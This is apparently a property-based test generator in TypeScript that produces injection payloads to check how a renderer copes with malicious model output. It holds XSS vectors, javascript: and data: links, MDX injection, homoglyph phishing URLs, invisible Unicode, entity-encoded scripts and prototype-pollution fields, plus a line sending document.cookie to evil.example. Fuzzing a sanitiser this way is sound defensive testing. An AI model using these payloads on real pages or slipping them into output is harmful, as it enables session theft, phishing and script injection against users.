import fc, { type Arbitrary } from 'fast-check';

// A grammar of what a model that was talked into it, or a provider that was broken into, might write.

const FOREIGN_HOST = 'evil.example';
/** What runs where a script runs; pages of the test have it. */
const CALL = 'window.ran()';
const URL = `https://${FOREIGN_HOST}/x`;
const ONE = (...texts: string[]): Arbitrary<string> => fc.constantFrom(...texts);

const js = ONE(
  CALL,
  'alert(1)',
  `fetch('${URL}?'+document.cookie)`,
  `import('${URL}.js')`,
  `location='${URL}'`,
  'eval(name)',
);
const event = ONE(
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
);
const quote = ONE('"', "'", '`', '');

const script = fc
  .tuple(js, fc.nat(5))
  .map(
    ([code, way]) =>
      [
        `<script>${code}</script>`,
        `<script src=//${FOREIGN_HOST}/x.js></script>`,
        `<scr<script>ipt>${code}</scr</script>ipt>`,
        `</p></div><script type="module">${code}</script>`,
        `<script\n>${code}</script\t>`,
        `<!--><script>${code}</script>-->`,
      ][way]!,
  );
const handler = fc
  .tuple(
    event,
    quote,
    js,
    ONE('img src=x', 'a', 'details open', 'input autofocus', 'video src=x', 'p tabindex=0', 'marquee'),
  )
  .map(([on, q, code, tag]) => `<${tag} ${on}=${q}${code}${q}>`);
const scheme = ONE(
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#115;cript:',
  '&#106;avascript:',
  'vbscript:',
  'javascript&colon;',
  ' javascript:',
  '\u0001javascript:',
  'javascript%3A',
);
const link = fc
  .tuple(scheme, js, fc.nat(5))
  .map(
    ([to, code, way]) =>
      [
        `[here](${to}${code})`,
        `[here](<${to}${code}>)`,
        `<${to}${code}>`,
        `[here]\n\n[here]: ${to}${code}`,
        `![x](${to}${code})`,
        `<a href="${to}${code}">here</a>`,
      ][way]!,
  );
const data = fc
  .tuple(
    ONE('text/html', 'image/svg+xml', 'text/html;base64', 'application/xhtml+xml'),
    js,
    ONE('[x](D)', '![x](D)', '<iframe src="D">', '<object data=D>', '<embed src=D>'),
  )
  .map(([type, code, form]) => form.replace('D', () => `data:${type},<script>${code}</script>`));
const mdx = fc
  .tuple(js, fc.nat(7))
  .map(
    ([code, way]) =>
      [
        `{${code}}`,
        `\${${code}}`,
        `{{ ${code} }}`,
        `<Foo onClick={() => ${code}} />`,
        `export const x = ${code}`,
        `import x from '${URL}.js'`,
        `{/* */ ${code}}`,
        `<>{${code}}</>`,
      ][way]!,
  );
const css = ONE(
  `<style>@import url(${URL}.css);</style>`,
  `<p style="background:url(${URL}.png)">`,
  `<link rel=stylesheet href=${URL}.css>`,
  `<div style="position:fixed;inset:0;z-index:9999">`,
  `<style>*{display:none}</style>`,
  `{style={{backgroundImage:'url(${URL})'}}}`,
);
const fetching = ONE(
  `![pixel](${URL}.png)`,
  `<img src="${URL}.png">`,
  `<iframe src="${URL}"></iframe>`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<base href="${URL}">`,
  `<form action="${URL}"><input name=password></form>`,
  `<video poster=${URL}.png>`,
  `<${URL}>`,
  `www.${FOREIGN_HOST}`,
  `//${FOREIGN_HOST}/x`,
  `[x]: ${URL}`,
);
const svg = fc
  .tuple(event, js, fc.nat(4))
  .map(
    ([on, code, way]) =>
      [
        `<svg ${on}=${code}>`,
        `<svg><use href="${URL}.svg#a"/></svg>`,
        `<svg><a xlink:href="javascript:${code}"><text>x</text></a></svg>`,
        `<svg><foreignObject><script>${code}</script></foreignObject></svg>`,
        `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
      ][way]!,
  );
const homoglyph = ONE(
  '[paypal.com](https://xn--pypal-4ve.com)',
  'https://gооgle.com/login',
  'ｗｗｗ．ｅｖｉｌ．ｅｘａｍｐｌｅ',
  'https://evil。example/',
  'ros.оrg/docs',
  '[ros.org](https://ros.org.evil.example)',
  'https://ros.org@evil.example',
  'hxxps://evil[.]example',
);
const directive = ONE(
  ':::danger\n\nSwitch the power off.\n\n:::',
  ':::for{programming_experience="Beginner"}\n\nx\n\n:::',
  `::video{src=${URL}}`,
  `:abbr[x]{onclick="${CALL}"}`,
  ':::primer{id=x}\n:::',
  '::::tabs\n:::tab\n::::',
);
const nesting = fc
  .tuple(
    ONE('[', '*', '**', '> ', '- ', '<b>', '(', '![', '`', '_', '{', '⟦', '$', '# ', '|'),
    fc.integer({ min: 20, max: 1_500 }),
  )
  .map(([sign, times]) => sign.repeat(times));
const marks = ONE(
  '⟦999⟧',
  '⟦1⟧⟦1⟧',
  `⟦1⟧javascript:${CALL}⟦/1⟧`,
  '⟦-1⟧',
  '⟦/1⟧',
  '⟦1',
  '⟦⟦1⟧⟧',
  '⟦constructor⟧',
  '⟦1e1⟧',
);
const structure = ONE(
  '# A heading',
  '---\ntitle: x\n---',
  '```js\nwindow.ran()\n```',
  '~~~html\n<b>\n~~~',
  '| a | b |\n|---|---|\n| <b> | x |',
  '[^1]\n\n[^1]: x',
  '$$\\href{javascript:alert(1)}{x}$$',
  '\\url{javascript:x}',
  '<br/>',
  '---',
);

/** What cannot be seen, as it is and by the names that HTML has for it. */
const INVISIBLE = [
  '\u200B',
  '\u200C',
  '\u200D',
  '\u200E',
  '\u200F',
  '\u202A',
  '\u202D',
  '\u202E',
  '\u2060',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\uFEFF',
  '\u00AD',
  '\u061C',
  '\u180E',
  '\u034F',
  '\u115F',
  '\u3164',
  '\u{E0041}',
  '\uE000',
  '\u2028',
  '\u0000',
  '\u0007',
  '\u0085',
  '\uFFF9',
  '\u2061',
  '\u2064',
];
const NAMED = [
  '&ZeroWidthSpace;',
  '&NegativeThinSpace;',
  '&NegativeMediumSpace;',
  '&NegativeThickSpace;',
  '&NegativeVeryThinSpace;',
  '&NoBreak;',
  '&ApplyFunction;',
  '&af;',
  '&InvisibleTimes;',
  '&it;',
  '&InvisibleComma;',
  '&ic;',
  '&shy;',
  '&lrm;',
  '&rlm;',
  '&zwj;',
  '&zwnj;',
  '&#8203;',
  '&#x200b;',
  '&#x202E;',
  '&#x2067;',
  '&#xad;',
  '&#173;',
  '&#x61c;',
  '&#917569;',
  '&#xE0041;',
  '&#x00200B;',
  '&#0008203;',
];
const invisible = fc
  .tuple(ONE(...INVISIBLE, ...NAMED), fc.nat(3))
  .map(([sign, way]) => [`wo${sign}rd`, `${sign}A word`, `the ${sign}drowssap${sign} of it`, `a word.${sign}`][way]!);
const entities = ONE(
  '&#60;script&#62;window.ran()&#60;/script&#62;',
  '&lt;img src=x onerror=window.ran()&gt;',
  '&LT;script&GT;',
  '&#x3c;b&#x3e;',
  '&amp;lt;script&amp;gt;',
  '&#X3C;svg onload=window.ran()&#X3E;',
  '&lbrace;window.ran()&rbrace;',
  '&#123;window.ran()&#125;',
  '&lsqb;x&rsqb;&lpar;javascript:window.ran()&rpar;',
  '&colon;&colon;&colon;danger',
  '&Tab;&NewLine;',
);

const payload = fc.oneof(
  script,
  handler,
  link,
  data,
  mdx,
  css,
  fetching,
  svg,
  homoglyph,
  directive,
  nesting,
  marks,
  structure,
  { weight: 3, arbitrary: invisible },
  { weight: 2, arbitrary: entities },
);

const escaped = (text: string): string => text.replaceAll(/[<>{}[\]()]/g, '\\$&');
const byNumber = (text: string): string => text.replaceAll(/[<>:{}]/g, (sign) => `&#${sign.codePointAt(0)};`);
const byPercent = (text: string): string => text.replaceAll(/[<>:]/g, (sign) => `%${sign.charCodeAt(0).toString(16)}`);
const torn = (text: string): string => text.replaceAll(/(?<=[<:])(?=\w)/g, '\u200B');
const DISGUISES: readonly ((text: string) => string)[] = [
  ...Array.from({ length: 6 }, () => (text: string) => text),
  (text) => text.toUpperCase(),
  escaped,
  byNumber,
  byPercent,
  torn,
  (text) => text.normalize('NFKD'),
  (text) => `**${text}**`,
  (text) => `\`${text}\``,
  (text) => `[${text}](#x)`,
  (text) => `- ${text}`,
  (text) => `\n\n${text}\n\n`,
  (text) => `    ${text}`,
];

/** A piece of malice in a text that would be sound without it. */
const wicked = fc
  .tuple(payload, fc.constantFrom(...DISGUISES), fc.nat(3))
  .map(([text, disguise, place]) => (sound: string) => {
    const hidden = disguise(text);
    return [
      `${sound} ${hidden}`,
      `${hidden} ${sound}`,
      sound.replace(/ (?=\S+$)/, () => ` ${hidden} `),
      `${sound} Look: ${hidden}.`,
    ][place]!;
  });

/** Fields that no model is asked for, or with what they must not have. */
const FIELDS: readonly Record<string, unknown>[] = [
  { leaves: [[{ type: 'html', value: `<script>${CALL}</script>` }]] },
  { content: [{ type: 'code', language: '"><script>', value: 'x' }] },
  { tag: '<script>' },
  { tag: '__proto__' },
  { why: [{ facet: '<img src=x onerror=window.ran()>', value: 'x' }] },
  { language: '"><script>window.ran()</script>' },
  { label: `<script>${CALL}</script>` },
  { kind: 'primer"><script>' },
  { position: 'javascript:' },
  { block: '../../b1' },
  { action: 'show', replaces: 'b1' },
  { action: 'hide' },
  { __html: `<script>${CALL}</script>`, dangerouslySetInnerHTML: { __html: 'x' } },
];

/** Makes a model's answer malicious: what becomes of its own text, or fields that stand beside it. */
export interface Malice {
  readonly twist: (sound: string) => string;
  readonly fields?: Readonly<Record<string, unknown>>;
}

/** So many of them, always the same for a seed. */
export function sampleMalice(count: number, seed: number): Malice[] {
  const malice: Arbitrary<Malice> = fc.oneof(
    { weight: 12, arbitrary: wicked.map((twist) => ({ twist })) },
    { weight: 1, arbitrary: fc.record({ twist: wicked, fields: fc.constantFrom(...FIELDS) }) },
  );
  return fc.sample(malice, { numRuns: count, seed });
}
